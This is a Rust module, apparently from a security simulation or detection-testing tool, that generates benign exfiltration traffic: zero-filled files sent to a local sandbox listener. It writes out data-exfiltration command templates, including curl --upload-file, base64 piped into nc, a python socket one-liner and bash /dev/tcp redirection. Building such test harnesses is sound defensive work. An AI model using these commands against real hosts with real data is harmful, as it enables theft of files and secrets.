//! Exfiltration: more than a megabyte leaves for a port that nobody uses.

use std::fs::File;
use std::io::Write as _;
use std::net::{Ipv4Addr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd as _;
use std::time::Duration;

use super::{BASH, CURL, NC, PYTHON, SH, address, word};
use crate::simulate::listener::Talk;
use crate::simulate::sandbox::{Problem, Sandbox, step};
use crate::simulate::sys;
use crate::simulate::table::{Act, Log, Need, Proof, Sign, Threat, Variant};

const PORT: u16 = 41_337;
/// Bytes of the loot: zeros.
const LOOT: usize = 1_500_000;
/// Bytes of a datagram, and how many are sent.
const DATAGRAM: usize = 1200;
const DATAGRAMS: usize = 1250;

pub(crate) const THREAT: Threat =
    Threat { name: "exfiltration", techniques: &["T1041", "T1048"], variants: VARIANTS };

macro_rules! upload {
    ($name:literal, $techniques:expr, $summary:literal, $needs:expr, $talk:expr, $act:expr, |$stage:ident, $to:ident, $loot:ident| $run:expr) => {
        Variant {
            name: $name,
            techniques: $techniques,
            summary: $summary,
            layer: "network_bytes",
            needs: $needs,
            log: Log::No,
            prepare: |$stage| {
                let $to = $stage.listen($stage.port(PORT), $talk)?;
                let $loot = $stage.file("loot", &vec![0; LOOT])?;
                let act: Act = $run;
                let act = act.sign(Sign::Sent { bytes: LOOT as u64 }).sign(Sign::Connect { address: $to });
                Ok(act.proof(Proof::Received(LOOT as u64)))
            },
            act: $act,
        }
    };
}

macro_rules! datagrams {
    ($name:literal, $summary:literal, $connected:literal) => {
        Variant {
            name: $name,
            techniques: &["T1048.003"],
            summary: $summary,
            layer: "network_bytes",
            needs: &[],
            log: Log::No,
            prepare: |stage| {
                let to = stage.datagrams(Ipv4Addr::LOCALHOST.into(), stage.port(PORT))?;
                let act = stage.own([to.to_string(), $connected.to_owned()])?;
                let act = act.sign(Sign::Sent { bytes: 1_000_000 }).sign(Sign::Connect { address: to });
                // Some datagrams may be dropped on the way.
                Ok(act.proof(Proof::Received(1_000_000)))
            },
            act: Some(stream),
        }
    };
}

const VARIANTS: &[Variant] = &[
    upload!(
        "static-tcp",
        &["T1041"],
        "a program of its own writes to a connection",
        &[],
        Talk::Listen,
        Some(send),
        |stage, to, loot| { stage.own([to.to_string(), loot])? }
    ),
    upload!(
        "static-sendfile",
        &["T1041"],
        "the same by sendfile",
        &[],
        Talk::Listen,
        Some(send_inside),
        |stage, to, loot| { stage.own([to.to_string(), loot])? }
    ),
    upload!(
        "curl-upload",
        &["T1048.003"],
        "curl --upload-file",
        &[CURL],
        Talk::Http,
        None,
        |_stage, to, loot| {
            Act::tool(
                "curl",
                [
                    "-q",
                    "-s",
                    "-S",
                    "-m",
                    "5",
                    "--noproxy",
                    "*",
                    "--upload-file",
                    &loot,
                    &format!("http://{to}/"),
                ],
            )?
        }
    ),
    upload!(
        "base64-nc",
        &["T1041", "T1132.001"],
        "base64 piped into nc",
        &[SH, NC, Need::Tool("base64", "coreutils")],
        Talk::Listen,
        None,
        |_stage, to, loot| { Act::script(format!("base64 {loot} | nc -N {} {}", to.ip(), to.port()))? }
    ),
    upload!(
        "python-socket",
        &["T1041"],
        "python sends a file",
        &[PYTHON],
        Talk::Listen,
        None,
        |_stage, to, loot| {
            let script = format!(
                "import socket\nsocket.create_connection(('{}',{})).sendall(open('{loot}','rb').read())",
                to.ip(),
                to.port()
            );
            Act::tool("python3", ["-c", &script])?
        }
    ),
    upload!(
        "bash-dev-tcp",
        &["T1041"],
        "cat into bash's /dev/tcp",
        &[BASH],
        Talk::Listen,
        None,
        |_stage, to, loot| {
            Act::tool("bash", ["-c", &format!("cat {loot} > /dev/tcp/{}/{}", to.ip(), to.port())])?
        }
    ),
    datagrams!("udp-connected", "datagrams over a connected socket", "connected"),
    datagrams!("udp-sendto", "datagrams, each with its address", "addressed"),
];

fn send(sandbox: &Sandbox, words: &[String]) -> Result<(), Problem> {
    let loot = step("reading", std::fs::read(sandbox.path(word(words, 1)?)?))?;
    let mut stream = step("connecting", TcpStream::connect(address(sandbox, words, 0)?))?;
    step("sending", stream.write_all(&loot))
}

fn send_inside(sandbox: &Sandbox, words: &[String]) -> Result<(), Problem> {
    let loot = step("opening", File::open(sandbox.path(word(words, 1)?)?))?;
    let stream = step("connecting", TcpStream::connect(address(sandbox, words, 0)?))?;
    while step("sending", sys::sendfile(stream.as_raw_fd(), &loot, LOOT))? > 0 {}
    Ok(())
}

fn stream(sandbox: &Sandbox, words: &[String]) -> Result<(), Problem> {
    let to = address(sandbox, words, 0)?;
    let socket = step("making a socket", UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)))?;
    let connected = word(words, 1)? == "connected";
    if connected {
        step("connecting", socket.connect(to))?;
    }
    for n in 0..DATAGRAMS {
        let bytes = [0; DATAGRAM];
        step("sending", if connected { socket.send(&bytes) } else { socket.send_to(&bytes, to) })?;
        if n % 50 == 0 {
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    Ok(())
}
